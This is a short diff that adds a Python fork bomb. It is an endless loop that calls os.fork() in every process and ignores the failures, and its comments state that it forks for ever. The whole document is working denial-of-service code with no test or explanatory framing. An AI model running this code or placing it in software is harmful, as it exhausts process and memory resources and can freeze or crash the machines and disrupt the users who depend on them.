@@ -1,0 +1,8 @@
+# forks as often as it can, in every process, for ever
+# ends: time
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
